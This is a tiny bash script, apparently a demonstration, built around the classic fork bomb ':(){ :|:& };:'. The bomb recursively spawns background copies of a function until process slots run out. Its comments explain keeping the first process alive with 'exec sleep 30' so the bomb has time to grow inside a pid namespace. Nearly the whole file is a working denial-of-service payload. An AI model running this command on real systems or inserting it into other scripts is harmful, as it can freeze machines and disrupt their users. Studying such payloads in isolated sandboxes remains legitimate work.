#!/bin/bash
# The classic: a function that pipes itself into itself in the background, forever.
:(){ :|:& };:
# Keep the first process alive: when it exits, its pid namespace ends and takes the bomb
# with it before the bomb has grown, which would make a dull example.
exec sleep 30
